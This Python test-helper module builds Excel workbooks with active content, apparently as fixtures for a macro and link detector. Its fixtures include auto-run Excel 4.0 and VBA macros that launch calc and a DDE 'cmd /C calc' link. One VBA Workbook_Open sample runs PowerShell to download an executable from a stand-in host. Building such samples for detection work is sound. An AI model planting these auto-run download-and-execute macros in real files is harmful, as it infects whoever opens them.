"""Workbooks with active content, built by test code: a template-written campaign workbook whose zip parts are
edited the way Excel lays them out (parts, relationships, content types), and a genuine VBA project written by
LibreOffice (``vba_project``) — nothing here is copied from elsewhere.

Each builder takes the path of a workbook the template writer made and adds one kind of active content.
"""

from __future__ import annotations

import base64
import functools
import io
import os
import re
import shutil
import struct
import subprocess
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MACRO_ENABLED = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


class Package:
    """The parts of a workbook package in memory; :meth:`save` writes them back."""

    def __init__(self, path: Path) -> None:
        self.path = path
        with zipfile.ZipFile(path) as archive:
            self.parts = {info.filename: archive.read(info) for info in archive.infolist()}

    def text(self, part: str) -> str:
        return self.parts[part].decode("utf-8")

    def put(self, part: str, data: bytes | str, content_type: str | None = None) -> None:
        self.parts[part] = data.encode("utf-8") if isinstance(data, str) else data
        if content_type is not None:
            types = self.text("[Content_Types].xml")
            override = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
            self.parts["[Content_Types].xml"] = types.replace("</Types>", override + "</Types>").encode("utf-8")

    def relate(self, source: str, rel_type: str, target: str, external: bool = False) -> str:
        """Add a relationship from ``source`` (a part, "" for the package) and return its id."""
        folder, base = os.path.split(source)
        rels = f"{folder}/_rels/{base}.rels" if source else "_rels/.rels"
        text = self.parts.get(rels, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
                                    b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                                    b"</Relationships>").decode("utf-8")
        used = set(re.findall(r'Id="([^"]+)"', text))
        rid = next(f"rIdS{n}" for n in range(1, 1000) if f"rIdS{n}" not in used)
        mode = ' TargetMode="External"' if external else ""
        rel = f'<Relationship Id="{rid}" Type="{rel_type}" Target="{_xml(target)}"{mode}/>'
        self.parts[rels] = text.replace("</Relationships>", rel + "</Relationships>").encode("utf-8")
        return rid

    def sheet_part(self, name: str) -> str:
        """The part of the sheet called ``name``."""
        workbook = self.text("xl/workbook.xml")
        rid = re.search(rf'<sheet [^>]*name="{re.escape(_xml(name))}"[^>]*r:id="([^"]+)"', workbook)
        assert rid is not None, name
        rels = self.text("xl/_rels/workbook.xml.rels")
        target = re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid[1]}"|'
                           rf'<Relationship [^>]*Id="{rid[1]}"[^>]*Target="([^"]+)"', rels)
        assert target is not None
        found = (target[1] or target[2]).lstrip("/")
        return found if found.startswith("xl/") else "xl/" + found

    def insert_in_sheet(self, sheet: str, element: str, before: tuple[str, ...] = ("<tableParts", "</worksheet>")
                        ) -> None:
        """Insert ``element`` into the sheet's XML before the first of ``before`` found (schema order)."""
        part = self.sheet_part(sheet)
        text = self.text(part)
        at = min(i for i in (text.find(tag) for tag in before) if i >= 0)
        self.parts[part] = (text[:at] + element + text[at:]).encode("utf-8")

    def add_sheet(self, name: str, part: str, rel_type: str, content_type: str, xml: str, state: str = "visible") -> None:
        """A new sheet (worksheet, macro sheet …) listed in the workbook."""
        self.put(part, xml, content_type)
        rid = self.relate("xl/workbook.xml", rel_type, "/" + part)
        workbook = self.text("xl/workbook.xml")
        sheet_id = max(int(n) for n in re.findall(r'sheetId="(\d+)"', workbook)) + 1
        element = f'<sheet xmlns:r="{REL}" name="{_xml(name)}" sheetId="{sheet_id}" state="{state}" r:id="{rid}"/>'
        self.parts["xl/workbook.xml"] = workbook.replace("</sheets>", element + "</sheets>").encode("utf-8")

    def add_defined_name(self, name: str, formula: str) -> None:
        workbook = self.text("xl/workbook.xml")
        element = f'<definedName name="{_xml(name)}">{_xml(formula)}</definedName>'
        if "</definedNames>" in workbook:
            workbook = workbook.replace("</definedNames>", element + "</definedNames>")
        else:
            workbook = workbook.replace("</sheets>", f"</sheets><definedNames>{element}</definedNames>")
        self.parts["xl/workbook.xml"] = workbook.encode("utf-8")

    def macro_enabled(self) -> None:
        """Mark the workbook part as macro-enabled (what an .xlsm says in its content types)."""
        types = self.text("[Content_Types].xml")
        types = re.sub(r'(PartName="/xl/workbook.xml" ContentType=")[^"]+"', rf'\g<1>{MACRO_ENABLED}"', types)
        self.parts["[Content_Types].xml"] = types.encode("utf-8")

    def save(self, path: Path | None = None) -> Path:
        out = path or self.path
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in self.parts.items():
                archive.writestr(name, data)
        return out


def _xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def edit(path: Path, change: Callable[[Package], None], out: Path | None = None) -> Path:
    package = Package(path)
    change(package)
    return package.save(out)


# --- one builder per kind ----------------------------------------------------------------------------------------

def with_vba(vba: bytes) -> Callable[[Package], None]:
    """The VBA project ``vba`` (the bytes of a vbaProject.bin) in a macro-enabled workbook."""
    def change(package: Package) -> None:
        package.put("xl/vbaProject.bin", vba, "application/vnd.ms-office.vbaProject")
        package.relate("xl/workbook.xml", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                       "vbaProject.bin")
        package.macro_enabled()
    return change


MACRO_SHEET = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<xm:macrosheet xmlns="{MAIN}" '
               'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">'
               '<c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData>'
               "</xm:macrosheet>")


def macro_sheet(package: Package) -> None:
    """A very hidden Excel 4.0 macro sheet "Macro1" that runs EXEC on open (``_xlnm.Auto_Open``)."""
    package.add_sheet("Macro1", "xl/macrosheets/sheet1.xml",
                      "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
                      "application/vnd.ms-excel.macrosheet+xml", MACRO_SHEET, state="veryHidden")
    package.add_defined_name("_xlnm.Auto_Open", "Macro1!$A$1")
    package.macro_enabled()


def external_workbook(target: str) -> Callable[[Package], None]:
    """A link to another workbook at ``target`` (as Excel writes one: an externalLink part, its path, the
    workbook's externalReferences)."""
    def change(package: Package) -> None:
        part = "xl/externalLinks/externalLink1.xml"
        package.put(part, f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="{MAIN}">'
                          f'<externalBook xmlns:r="{REL}" r:id="rId1"><sheetNames><sheetName val="Sheet1"/>'
                          "</sheetNames><sheetDataSet><sheetData sheetId=\"0\"/></sheetDataSet></externalBook>"
                          "</externalLink>",
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
        package.parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            f'openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="{_xml(target)}" '
            'TargetMode="External"/></Relationships>').encode()
        _external_reference(package, part)
    return change


def dde_link(package: Package) -> None:
    """A DDE link part, as Excel saves the link behind ``=cmd|' /C calc'!A0``."""
    part = "xl/externalLinks/externalLink1.xml"
    package.put(part, f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="{MAIN}">'
                      '<ddeLink ddeService="cmd" ddeTopic=" /C calc"><ddeItems><ddeItem name="A0" advise="1"/>'
                      '<ddeItem name="StdDocumentName" ole="1" advise="1"/></ddeItems></ddeLink></externalLink>',
                "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
    _external_reference(package, part)


def _external_reference(package: Package, part: str) -> None:
    rid = package.relate("xl/workbook.xml", f"{REL}/externalLink", "/" + part)
    workbook = package.text("xl/workbook.xml")
    refs = f'<externalReferences><externalReference xmlns:r="{REL}" r:id="{rid}"/></externalReferences>'
    anchor = "<definedNames>" if "<definedNames>" in workbook else "<calcPr"
    package.parts["xl/workbook.xml"] = workbook.replace(anchor, refs + anchor, 1).encode("utf-8")


CONNECTIONS = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<connections xmlns="{MAIN}">'
               '<connection id="1" name="Sales feed" type="4" refreshedVersion="6" refreshOnLoad="1" background="1" '
               'saveData="1"><webPr sourceData="1" parsePre="1" consecutive="1" xl2000="1" '
               'url="https://data.example/export.csv"/></connection>'
               '<connection id="2" name="Finance DB" type="1" refreshedVersion="6" savePassword="1">'
               '<dbPr connection="DSN=finance;UID=ops;PWD=hunter2;" command="SELECT * FROM budget"/></connection>'
               "</connections>")


def connections(package: Package) -> None:
    """A web query that refreshes on open and fills a query table on "Daily KPI", and an ODBC connection that
    stores its password."""
    package.put("xl/connections.xml", CONNECTIONS,
                "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")
    package.relate("xl/workbook.xml", f"{REL}/connections", "connections.xml")
    package.put("xl/queryTables/queryTable1.xml", f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                f'<queryTable xmlns="{MAIN}" name="Sales feed" connectionId="1" autoFormatId="16" '
                'applyNumberFormats="0" applyBorderFormats="0" applyFontFormats="1" applyPatternFormats="1" '
                'applyAlignmentFormats="0" applyWidthHeightFormats="0"/>',
                "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml")
    package.relate(package.sheet_part("Daily KPI"), f"{REL}/queryTable", "../queryTables/queryTable1.xml")


M_CODE = ('section Section1;\r\n\r\nshared Rates = let\r\n    Source = Web.Contents("https://rates.example/today"),\r\n'
          '    Table = Csv.Document(Source)\r\nin\r\n    Table;\r\n\r\nshared #"Old plan" = let\r\n'
          '    Source = Excel.Workbook(File.Contents("\\\\fileserver\\plans\\old.xlsx"), null, true)\r\nin\r\n'
          "    Source;")


def data_mashup(code: str = M_CODE) -> bytes:
    """A DataMashup as MS-QDEFF lays it out: version, the package parts (a zip holding Formulas/Section1.m),
    permissions, metadata and permission bindings, each behind its length."""
    parts = io.BytesIO()
    with zipfile.ZipFile(parts, "w", zipfile.ZIP_DEFLATED) as inner:
        inner.writestr("[Content_Types].xml", '<?xml version="1.0" encoding="utf-8"?><Types xmlns="http://schemas.'
                       'openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="text/xml"'
                       ' /><Default Extension="m" ContentType="application/x-ms-m" /></Types>')
        inner.writestr("Config/Package.xml", '<?xml version="1.0" encoding="utf-8"?><Package xmlns:xsd="http://www.'
                       'w3.org/2001/XMLSchema"><Version>2.72.0</Version><MinVersion>2.21.0</MinVersion></Package>')
        inner.writestr("Formulas/Section1.m", code)
    package = parts.getvalue()
    permissions = b'<?xml version="1.0" encoding="utf-8"?><PermissionList/>'
    metadata = b""
    blob = (struct.pack("<I", 0) + struct.pack("<I", len(package)) + package + struct.pack("<I", len(permissions))
            + permissions + struct.pack("<I", len(metadata)) + metadata + struct.pack("<I", 0))
    return blob


def power_query(package: Package) -> None:
    """Power Query queries in custom XML (UTF-16, as Excel writes the DataMashup item)."""
    encoded = base64.b64encode(data_mashup()).decode("ascii")
    item = ('<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">'
            f"{encoded}</DataMashup>")
    package.put("customXml/item1.xml", b"\xff\xfe" + item.encode("utf-16-le"))
    package.put("customXml/itemProps1.xml", '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<ds:datastoreItem '
                'ds:itemID="{A1B2C3D4-0000-4000-8000-000000000001}" xmlns:ds="http://schemas.openxmlformats.org/'
                'officeDocument/2006/customXml"><ds:schemaRefs/></ds:datastoreItem>',
                "application/vnd.openxmlformats-officedocument.customXmlProperties+xml")
    package.relate("customXml/item1.xml", f"{REL}/customXmlProps", "itemProps1.xml")
    package.relate("xl/workbook.xml", f"{REL}/customXml", "../customXml/item1.xml")


def embedded_workbook(sheet: str) -> Callable[[Package], None]:
    """An embedded OLE object on ``sheet``: another workbook, as Excel embeds one (progId Excel.Sheet.12)."""
    def change(package: Package) -> None:
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w") as other:
            other.writestr("xl/workbook.xml", f'<workbook xmlns="{MAIN}"/>')
        part = "xl/embeddings/Microsoft_Excel_Worksheet.xlsx"
        package.put(part, inner.getvalue(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
        rid = package.relate(package.sheet_part(sheet), f"{REL}/package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")
        package.insert_in_sheet(sheet, f'<oleObjects><oleObject xmlns:r="{REL}" progId="Excel.Sheet.12" '
                                       f'shapeId="1025" r:id="{rid}"/></oleObjects>')
    return change


def activex_button(sheet: str) -> Callable[[Package], None]:
    """An ActiveX command button ``CommandButton1`` on ``sheet``."""
    def change(package: Package) -> None:
        part = "xl/activeX/activeX1.xml"
        package.put(part, '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<ax:ocx xmlns:ax="http://schemas.'
                          'microsoft.com/office/2006/activeX" xmlns:r="http://schemas.openxmlformats.org/'
                          'officeDocument/2006/relationships" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" '
                          'ax:persistence="persistPropertyBag"><ax:ocxPr ax:name="Caption" ax:value="Run"/></ax:ocx>',
                    "application/vnd.ms-office.activeX+xml")
        rid = package.relate(package.sheet_part(sheet), f"{REL}/control", "../activeX/activeX1.xml")
        package.insert_in_sheet(sheet, f'<controls><control xmlns:r="{REL}" shapeId="1026" r:id="{rid}" '
                                       'name="CommandButton1"/></controls>')
    return change


def shape_link(sheet: str, target: str) -> Callable[[Package], None]:
    """A text box on ``sheet`` whose click opens ``target``."""
    def change(package: Package) -> None:
        drawing = "xl/drawings/drawing1.xml"
        link = package.relate(drawing, f"{REL}/hyperlink", target, external=True)
        package.put(drawing, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<xdr:wsDr xmlns:xdr="http://'
                             'schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.'
                             'openxmlformats.org/drawingml/2006/main"><xdr:twoCellAnchor><xdr:from><xdr:col>1</xdr:col>'
                             '<xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>'
                             '<xdr:to><xdr:col>3</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>3</xdr:row><xdr:rowOff>0'
                             '</xdr:rowOff></xdr:to><xdr:sp macro="" textlink=""><xdr:nvSpPr><xdr:cNvPr id="2" '
                             f'name="TextBox 1"><a:hlinkClick xmlns:r="{REL}" r:id="{link}"/></xdr:cNvPr>'
                             '<xdr:cNvSpPr txBox="1"/></xdr:nvSpPr><xdr:spPr><a:prstGeom prst="rect"><a:avLst/>'
                             '</a:prstGeom></xdr:spPr><xdr:txBody><a:bodyPr/><a:p><a:r><a:t>Open the plan</a:t></a:r>'
                             '</a:p></xdr:txBody></xdr:sp><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>',
                    "application/vnd.openxmlformats-officedocument.drawing+xml")
        rid = package.relate(package.sheet_part(sheet), f"{REL}/drawing", "../drawings/drawing1.xml")
        package.insert_in_sheet(sheet, f'<drawing xmlns:r="{REL}" r:id="{rid}"/>',
                                before=("<legacyDrawing", "<tableParts", "</worksheet>"))
    return change


# --- a genuine VBA project, written by LibreOffice ------------------------------------------------------------------

UNO_SCRIPT = r'''
import os, subprocess, sys, time
import uno
from com.sun.star.beans import PropertyValue
from com.sun.star.script import ModuleInfo

out, profile, modules_file = sys.argv[1], sys.argv[2], sys.argv[3]
pipe = "xlc_vba_%d" % os.getpid()
office = subprocess.Popen(["soffice", "-env:UserInstallation=" + uno.systemPathToFileUrl(profile), "--headless",
                           "--invisible", "--norestore", "--accept=pipe,name=%s;urp;" % pipe],
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
local = uno.getComponentContext()
resolver = local.ServiceManager.createInstanceWithContext("com.sun.star.bridge.UnoUrlResolver", local)
context = None
for _ in range(300):
    try:
        context = resolver.resolve("uno:pipe,name=%s;urp;StarOffice.ComponentContext" % pipe)
        break
    except Exception:
        time.sleep(0.2)
desktop = None
try:
    desktop = context.ServiceManager.createInstanceWithContext("com.sun.star.frame.Desktop", context)

    def prop(name, value):
        p = PropertyValue()
        p.Name, p.Value = name, value
        return p

    doc = desktop.loadComponentFromURL("private:factory/scalc", "_blank", 0, (prop("Hidden", True),))
    libraries = doc.BasicLibraries
    libraries.VBACompatibilityMode = True
    libraries.ProjectName = "VBAProject"
    library = libraries.createLibrary("VBAProject")
    # modules file: blocks "name|kind" line, then the source, separated by a line holding only "\x1e"
    for block in open(modules_file, encoding="utf-8").read().split("\n\x1e\n"):
        header, source = block.split("\n", 1)
        name, kind = header.split("|")
        info = ModuleInfo()
        info.ModuleType = uno.getConstantByName("com.sun.star.script.ModuleType." + kind)
        library.insertModuleInfo(name, info)
        library.insertByName(name, source)
    doc.Sheets.getByIndex(0).getCellByPosition(0, 0).setString("x")
    doc.storeToURL(uno.systemPathToFileUrl(out), (prop("FilterName", "Calc MS Excel 2007 VBA XML"),))
    doc.close(True)
finally:
    if desktop is not None:
        try:
            desktop.terminate()
        except Exception:
            pass
    try:
        office.wait(timeout=30)
    except subprocess.TimeoutExpired:
        office.kill()
'''


def _uno_python() -> str | None:
    """A Python that can import LibreOffice's ``uno`` bridge (Debian: python3-uno), else None."""
    for candidate in ("/usr/bin/python3", shutil.which("python3")):
        if candidate and os.path.exists(candidate):
            probe = subprocess.run([candidate, "-c", "import uno"], capture_output=True)
            if probe.returncode == 0:
                return candidate
    return None


@functools.cache
def vba_project(modules: tuple[tuple[str, str, str], ...]) -> bytes:
    """The vbaProject.bin LibreOffice writes for a workbook with the VBA ``modules`` ((name, NORMAL|DOCUMENT,
    source), in VBA-compatibility mode): a real MS-OVBA project that olevba reads back. Skips (fails under CI)
    without LibreOffice and its Python bridge."""
    from .conftest import need_soffice

    need_soffice()
    python = _uno_python()
    if python is None:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice's Python bridge is missing; .ci/run must install Debian's python3-uno")
        pytest.skip("LibreOffice's Python bridge (python3-uno) is not installed")
    with tempfile.TemporaryDirectory(prefix="lo-vba-") as folder:
        script, spec, out = Path(folder, "make.py"), Path(folder, "modules.txt"), Path(folder, "made.xlsm")
        script.write_text(UNO_SCRIPT, encoding="utf-8")
        spec.write_text("\n\x1e\n".join(f"{name}|{kind}\n{source}" for name, kind, source in modules),
                        encoding="utf-8")
        result = subprocess.run([python, str(script), str(out), str(Path(folder, "profile")), str(spec)],
                                capture_output=True, text=True, timeout=240)
        assert out.exists(), f"LibreOffice wrote no workbook: {result.stdout} {result.stderr}"
        with zipfile.ZipFile(out) as made:
            return made.read("xl/vbaProject.bin")


AUTO_OPEN = (
    ("ThisWorkbook", "DOCUMENT", "Rem Attribute VBA_ModuleType=VBADocumentModule\nOption VBASupport 1\n"
                                 "Private Sub Workbook_Open()\n    Set shell = CreateObject(\"WScript.Shell\")\n"
                                 "    shell.Run \"powershell -c Invoke-WebRequest https://payload.example/a.exe\"\n"
                                 "End Sub\n"),
    ("Sheet1", "DOCUMENT", "Rem Attribute VBA_ModuleType=VBADocumentModule\nOption VBASupport 1\n"
                           "Private Sub Worksheet_Change(ByVal Target As Range)\n    Beep\nEnd Sub\n"),
    ("Module1", "NORMAL", "Rem Attribute VBA_ModuleType=VBAModule\nOption VBASupport 1\nSub Auto_Open()\n"
                          "    Shell \"cmd /c calc.exe\"\nEnd Sub\n"),
)


def xlwings_vba() -> bytes:
    """The VBA project of the quickstart workbook shipped with the installed xlwings (made by Excel; its one
    module ``SampleCall`` runs only when called)."""
    import xlwings

    with zipfile.ZipFile(Path(xlwings.__file__).parent / "quickstart.xlsm") as quickstart:
        return quickstart.read("xl/vbaProject.bin")
